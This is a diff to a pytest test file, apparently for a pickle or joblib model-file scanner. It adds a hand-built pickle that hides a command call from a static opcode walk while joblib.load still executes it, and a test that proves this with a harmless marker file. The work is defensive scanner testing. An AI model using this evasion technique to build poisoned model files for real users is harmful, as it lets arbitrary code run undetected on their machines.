@@ -81,7 +81,39 @@ def dtype_itemsize_mismatch(command: str, count: int = 64) -> bytes:
     return PROTO3 + array_wrapper((count,), dtype("f4", 8)) + b"\x00" * (4 * count) + hidden + STOP
 
 
-EVASIONS = [pytest.param(dtype_itemsize_mismatch, id="float32-dtype-with-elsize-8")]
+def wrapper_through_an_identity(command: str, count: int = 64) -> bytes:
+    """A NumpyArrayWrapper made by NEWOBJ but handed through ``numpy.core.multiarray.scalar``
+    with an object dtype, which returns its argument itself; the BUILD then lands on what the walk
+    sees as scalar's result, not as a wrapper. joblib checks the object (isinstance), reads the
+    array's ``4 * count`` bytes and executes what follows; a walk that does not know the object is a
+    wrapper reads the array bytes as opcodes: they start with a BINBYTES whose length swallows the
+    hidden call."""
+    object_dtype = global_("numpy", "dtype") + unicode("O8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
+    object_dtype += MARK + small_int(3) + unicode("|") + NONE + NONE + NONE + small_int(-1) + small_int(-1) + small_int(63)
+    object_dtype += TUPLE + BUILD
+    wrapper = global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
+    identity = global_("numpy.core.multiarray", "scalar") + object_dtype + wrapper + b"\x86" + REDUCE  # TUPLE2
+    state = (
+        EMPTY_DICT
+        + MARK
+        + unicode("subclass") + global_("numpy", "ndarray")
+        + unicode("shape") + MARK + small_int(count) + TUPLE
+        + unicode("order") + unicode("C")
+        + unicode("dtype") + dtype("f4", -1)
+        + unicode("allow_mmap") + NEWFALSE
+        + SETITEMS
+    )  # fmt: skip
+    hidden = call_opcodes(command) + NONE  # joblib's stack now holds as many items as the walk's
+    data_size = 4 * count
+    swallow = b"B" + struct.pack("<I", data_size - 5 + len(hidden))  # BINBYTES over the rest of the data and the call
+    data = swallow + b"\x00" * (data_size - len(swallow))
+    return PROTO3 + identity + state + BUILD + data + hidden + POP + STOP
+
+
+EVASIONS = [
+    pytest.param(dtype_itemsize_mismatch, id="float32-dtype-with-elsize-8"),
+    pytest.param(wrapper_through_an_identity, id="wrapper-through-numpy-scalar"),
+]
 
 
 @pytest.mark.parametrize("write", EVASIONS)
@@ -97,7 +129,9 @@ def test_joblib_really_runs_the_hidden_opcodes(write, tmp_path):
     """The evasion is real (else the test above would prove nothing): joblib.load, in a subprocess,
     executes the call the audit should have seen; it touches a marker in tmp_path only."""
     pytest.importorskip("joblib")
-    pytest.importorskip("numpy")
+    numpy = pytest.importorskip("numpy")
+    if write is wrapper_through_an_identity and int(numpy.__version__.split(".")[0]) >= 2:
+        pytest.skip("numpy 2 no longer unpickles an object-dtype scalar; the serving image's numpy 1.26 returns the object")
     marker = tmp_path / "ran"
     path = tmp_path / "model.joblib"
     path.write_bytes(write(f"touch {marker}"))
